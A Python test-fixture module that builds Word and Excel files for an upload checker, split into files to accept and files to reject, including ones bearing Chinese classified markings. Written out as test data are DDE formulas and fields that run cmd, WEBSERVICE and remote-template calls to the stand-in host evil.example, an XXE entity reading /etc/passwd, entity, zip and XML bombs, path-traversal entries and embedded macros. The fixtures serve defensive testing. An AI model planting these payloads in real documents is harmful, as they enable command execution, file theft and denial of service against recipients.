"""Word and Excel files for the uploads, as tests.files.pictures; and what hides in them."""

import io
import re
import zipfile
from functools import cache

import docx
import openpyxl
import xlsxwriter
from openpyxl.comments import Comment

from tests.factories_files import photo
from tests.files.pictures import EXE, HTML, PLACE, SCRIPT, SVG, bomb, pixels, saved, with_gps

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
EVIL = b"evil.example"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def word(*lines, change=lambda document: None):
    document = docx.Document()
    for line in lines or ["支部工作总结"]:
        document.add_paragraph(line)
    change(document)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def sheet(rows=(("姓名", "人数"), ("支部工作总结", 12)), change=lambda book, sheet: None):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    change(book, book.active)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def written(change):
    """A workbook as Excel itself writes it, which openpyxl does not quite."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True}) as book:
        page = book.add_worksheet("统计")
        page.write_column(0, 0, [1, 2, 3])
        change(book, page)
    return stream.getvalue()


def packed(data, parts=(), *, edit=None, twice=()):
    """The package with further or other parts; `edit`: {part: (old, new)}."""
    stream, parts = io.BytesIO(), dict(parts)
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            for before, after in (edit or {}).get(name, ()):
                assert before.encode() in content, (name, before)
                content = content.replace(before.encode(), after.encode(), 1)
            new.writestr(name, parts.pop(name, content))
        for name, content in [*parts.items(), *twice]:
            new.writestr(name, content)
    return stream.getvalue()


def pointing(data, kind, target, *, of="word/document.xml", outside=True, base=OFFICE, parts=(), body=""):
    """With a relationship `rIdX` of the part, and an element before the end of its body that may name it."""
    folder, _, file = of.rpartition("/")
    mode = ' TargetMode="External"' if outside else ""
    entry = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    edit = {f"{folder}/_rels/{file}.rels": [("</Relationships>", entry)]}
    if body:
        edit[of] = [body]
    return packed(data, parts, edit=edit)


def in_body(xml):
    return ("<w:sectPr", f"<w:p><w:r>{xml}</w:r></w:p><w:sectPr")


def field(*words, simple=False):
    """A Word whose field says these words, each in a run of its own."""
    if simple:
        body = f'</w:r><w:fldSimple w:instr="{words[0]}"><w:r><w:t>1</w:t></w:r></w:fldSimple><w:r>'
        return packed(word(), edit={"word/document.xml": [in_body(body)]})
    said = "".join(f"<w:instrText>{part}</w:instrText></w:r><w:r>" for part in words)
    body = (
        f'<w:fldChar w:fldCharType="begin"/></w:r><w:r>{said}<w:fldChar w:fldCharType="separate"/><w:t>结果</w:t>'
        '<w:fldChar w:fldCharType="end"/>'
    )
    return packed(word(), edit={"word/document.xml": [in_body(body)]})


def linked(book, page):
    page["A9"] = "网址"
    page["A9"].hyperlink = "http://evil.example/x"


def with_author(document):
    document.core_properties.author = document.core_properties.last_modified_by = "evil.example"


def with_header(document):
    document.sections[0].header.paragraphs[0].text = "云岭县"
    document.add_table(2, 2).cell(0, 0).text = "表"


def in_runs(document):
    paragraph = document.add_paragraph()
    for piece in ("机", "密 ", "★"):
        paragraph.add_run(piece).bold = piece == "机"


def commented(book, page):
    page["A1"].comment = Comment("请核对", "某同志")


def chart(book, page):
    drawing = book.add_chart({"type": "column"})
    drawing.add_series({"values": "=统计!$A$1:$A$3"})
    page.insert_chart("C1", drawing)


@cache
def good():
    picture = lambda form="JPEG", **more: lambda d: d.add_picture(io.BytesIO(saved(pixels(), form, **more)))  # noqa: E731
    inside = word(change=lambda d: d.add_picture(io.BytesIO(photo(exif=with_gps(), comment=SCRIPT))))
    drawn = ("<a:blip ", '<a:blip r:link="rIdX" ')
    hyper = in_body('</w:r><w:hyperlink r:id="rIdX"><w:r><w:t>网址</w:t></w:r></w:hyperlink><w:r>')
    svg = 'xmlns:s="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdX"'
    template = ("<w:zoom", f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rIdX"/><w:zoom')
    settings = packed(word(), {"word/_rels/settings.xml.rels": f'<Relationships xmlns="{PACKAGE}"></Relationships>'})
    html = in_body('</w:r></w:p><w:altChunk r:id="rIdX"/><w:p><w:r>')
    in_html = pointing(word(), "aFChunk", "a.html", outside=False, parts={"word/a.html": HTML}, body=html)
    in_svg = pointing(
        word(change=picture()), "image", "media/a.svg", outside=False, parts={"word/media/a.svg": SVG},
        body=("<a:blip ", f"<a:svgBlip {svg}/><a:blip "),
    )  # fmt: skip
    a_template = pointing(
        settings, "attachedTemplate", "http://evil.example/t.dotm", of="word/settings.xml", body=template
    )
    scripted = {"image_data": io.BytesIO(photo(comment=SCRIPT))}
    return [
        ("word", "总结.docx", word(), b""),
        ("upper case", "总结.DOCX", word(), b""),
        ("picture", "a.docx", word(change=picture()), b""),
        (
            "see-through picture",
            "a.docx",
            word(change=lambda d: d.add_picture(io.BytesIO(saved(pixels("RGBA"), "PNG")))),
            b"",
        ),
        ("gif", "a.docx", word(change=picture("GIF")), b""),
        ("bmp", "a.docx", word(change=picture("BMP")), b""),
        ("header and table", "a.docx", word(change=with_header), b""),
        ("words about secrets", "a.docx", word("严禁录入国家秘密、工作秘密", "★ 第一条"), b""),
        ("page number", "a.docx", field(" PAGE ", " \\* MERGEFORMAT "), b""),
        ("other order of parts", "a.docx", packed(word(), {"a.txt": "x"}), b"a.txt"),
        ("author", "a.docx", word(change=with_author), EVIL),
        ("picture with gps", "a.docx", inside, PLACE),
        ("picture with script", "a.docx", inside, SCRIPT),
        ("template elsewhere", "a.docx", a_template, EVIL),
        ("link", "a.docx", pointing(word(), "hyperlink", "http://evil.example/", body=hyper), EVIL),
        (
            "picture elsewhere",
            "a.docx",
            pointing(word(change=picture()), "image", "http://evil.example/a.png", body=drawn),
            EVIL,
        ),
        ("frame elsewhere", "a.docx", pointing(word(), "frame", "http://evil.example/"), EVIL),
        ("part of html", "a.docx", in_html, SCRIPT),
        ("svg", "a.docx", in_svg, b"onload"),
        ("dde", "a.docx", field(" DDEAUTO c:\\\\evil.example cmd "), EVIL),
        ("dde in pieces", "a.docx", field(" DD", "EAUTO c:\\\\evil", ".example cmd "), b"EAUTO"),
        ("dde at once", "a.docx", field("DDEAUTO evil.example", simple=True), EVIL),
        ("picture by a field", "a.docx", field(' INCLUDEPICTURE "http://evil.example/a.png" '), EVIL),
        ("link by a field", "a.docx", field(' HYPERLINK "http://evil.example/" '), EVIL),
        (
            "strange part",
            "a.docx",
            packed(word(), {"word/evil.exe": EXE, "customXml/item1.xml": "<a>evil.example</a>"}),
            EVIL,
        ),
        ("html behind the end", "a.docx", word() + b"\0" * 30, b""),
        ("sheet", "人数.xlsx", sheet(), b""),
        ("formula", "a.xlsx", sheet(change=lambda book, page: page.append(["=SUM(B2:B2)"])), b""),
        ("comment", "a.xlsx", sheet(change=commented), b""),
        ("as Excel writes", "a.xlsx", written(chart), b""),
        ("comment as Excel writes", "a.xlsx", written(lambda book, page: page.write_comment("A1", "请核对")), b""),
        ("picture", "a.xlsx", written(lambda book, page: page.insert_image("C1", "a.jpg", scripted)), SCRIPT),
        ("table", "a.xlsx", written(lambda book, page: page.add_table("A1:A3")), b""),
        ("link", "a.xlsx", sheet(change=linked), EVIL),
        (
            "link as Excel writes",
            "a.xlsx",
            written(lambda book, page: page.write_url("A5", "http://evil.example")),
            b'//evil.example"',
        ),
        (
            "link by a formula",
            "a.xlsx",
            sheet(change=lambda book, page: page.append(['=HYPERLINK("http://evil.example")'])),
            EVIL,
        ),
        (
            "web service",
            "a.xlsx",
            sheet(change=lambda book, page: page.append(['=WEBSERVICE("http://evil.example")'])),
            EVIL,
        ),
        ("dde", "a.xlsx", sheet(change=lambda book, page: page.append(["=cmd|'/C evil.example'!A0"])), EVIL),
        (
            "author",
            "a.xlsx",
            sheet(change=lambda book, page: setattr(book.properties, "creator", "evil.example")),
            EVIL,
        ),
        ("connection", "a.xlsx", packed(sheet(), {"xl/connections.xml": "<c>evil.example</c>"}), EVIL),
    ]


@cache
def bad():
    plain, table = word(), sheet()
    types, main = "[Content_Types].xml", "wordprocessingml.document.main+xml"
    laughs = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    foreign = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    deep = "<w:document>" + "<w:p>" * 5000
    body = zipfile.ZipFile(io.BytesIO(plain)).read("word/document.xml").decode()
    declared = lambda text: re.sub(r"\?>", f"?>{text}", body, count=1)  # noqa: E731
    macro = ("vnd.openxmlformats-officedocument." + main, "vnd.ms-word.document.macroEnabled.main+xml")
    control = '<Override PartName="/word/header9.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>'
    lying = bytearray(packed(plain, {"word/header1.xml": "<a>" + "x" * 5000 + "</a>"}))
    at = lying.rindex(b"word/header1.xml") - 46
    lying[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return [
        ("docm", "a.docm", plain),
        ("dotx", "a.dotx", plain),
        ("doc", "a.doc", OLE),
        ("xls", "a.xls", OLE),
        ("pptx", "a.pptx", plain),
        ("xlsm", "a.xlsm", table),
        ("old or locked", "a.docx", OLE),
        ("old or locked sheet", "a.xlsx", OLE),
        ("macro", "a.docx", packed(plain, {"word/vbaProject.bin": OLE})),
        ("docm renamed", "a.docx", packed(plain, edit={types: [macro]})),
        ("template renamed", "a.docx", packed(plain, edit={types: [(main, "wordprocessingml.template.main+xml")]})),
        ("macro of a sheet", "a.xlsx", packed(table, {"xl/vbaProject.bin": OLE})),
        ("macro sheet", "a.xlsx", packed(table, {"xl/macrosheets/sheet1.xml": "<a/>"})),
        ("other workbook", "a.xlsx", packed(table, {"xl/externalLinks/externalLink1.xml": "<a/>"})),
        ("object", "a.docx", packed(plain, {"word/embeddings/oleObject1.bin": OLE})),
        ("workbook inside", "a.docx", packed(plain, {"word/embeddings/Sheet1.xlsx": table})),
        ("exe inside", "a.docx", packed(plain, {"word/embeddings/a.exe": EXE})),
        ("control", "a.docx", packed(plain, {"word/activeX/activeX1.xml": "<a/>"})),
        ("control by another name", "a.docx", packed(plain, edit={types: [("</Types>", control)]})),
        ("metafile", "a.docx", packed(plain, {"word/media/image9.wmf": b"\xd7\xcd\xc6\x9a"})),
        ("broken picture", "a.docx", packed(plain, {"word/media/image9.png": HTML})),
        ("bomb in a picture", "a.docx", packed(plain, {"word/media/image9.png": bomb(12_000)})),
        ("entities", "a.docx", packed(plain, {"word/document.xml": declared(laughs)})),
        ("foreign entity", "a.docx", packed(plain, {"word/document.xml": declared(foreign)})),
        ("entity of a sheet", "a.xlsx", packed(table, {"xl/styles.xml": foreign + "<a/>"})),
        (
            "entity in another script",
            "a.docx",
            packed(plain, {"word/document.xml": (foreign + "<a/>").encode("utf-16")}),
        ),
        ("deep", "a.docx", packed(plain, {"word/document.xml": deep})),
        ("no xml", "a.docx", packed(plain, {"word/document.xml": HTML})),
        ("bomb", "a.docx", packed(plain, {"word/media/image9.bmp": b"BM" + b"\0" * 20_000_000})),
        ("bomb of xml", "a.docx", packed(plain, {"word/header1.xml": "<a>" + "x" * 20_000_000 + "</a>"})),
        ("bomb of a sheet", "a.xlsx", packed(table, {"xl/worksheets/sheet2.xml": b"<a>" + b" " * 20_000_000})),
        ("many parts", "a.docx", packed(plain, {f"word/header{n}.xml": "<a/>" for n in range(1001)})),
        ("lying size", "a.docx", bytes(lying)),
        ("path", "a.docx", packed(plain, {"../../evil.xml": "<a/>"})),
        ("root path", "a.docx", packed(plain, {"/etc/evil.xml": "<a/>"})),
        ("same name twice", "a.docx", packed(plain, twice=[("WORD/document.xml", "<a/>")])),
        ("sheet as docx", "a.docx", table),
        ("docx as sheet", "a.xlsx", plain),
        ("zip as docx", "a.docx", _zip()),
        ("empty docx", "a.docx", b""),
        ("half a docx", "a.docx", plain[: len(plain) // 2]),
        ("half a sheet", "a.xlsx", table[: len(table) // 2]),
        ("marked", "a.docx", word("机密★10年", "关于……的请示")),
        ("marked in pieces", "a.docx", word(change=in_runs)),
        (
            "marked header",
            "a.docx",
            word(change=lambda d: setattr(d.sections[0].header.paragraphs[0], "text", "秘密☆1年")),
        ),
        ("marked sheet", "a.xlsx", sheet([["绝　密　★"]])),
        ("marked printing", "a.xlsx", written(lambda book, page: page.set_header("&L机密★"))),
        ("marked name of a sheet", "a.xlsx", sheet(change=lambda book, page: setattr(page, "title", "机密★"))),
    ]


def _zip():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("index.html", HTML)
    return stream.getvalue()
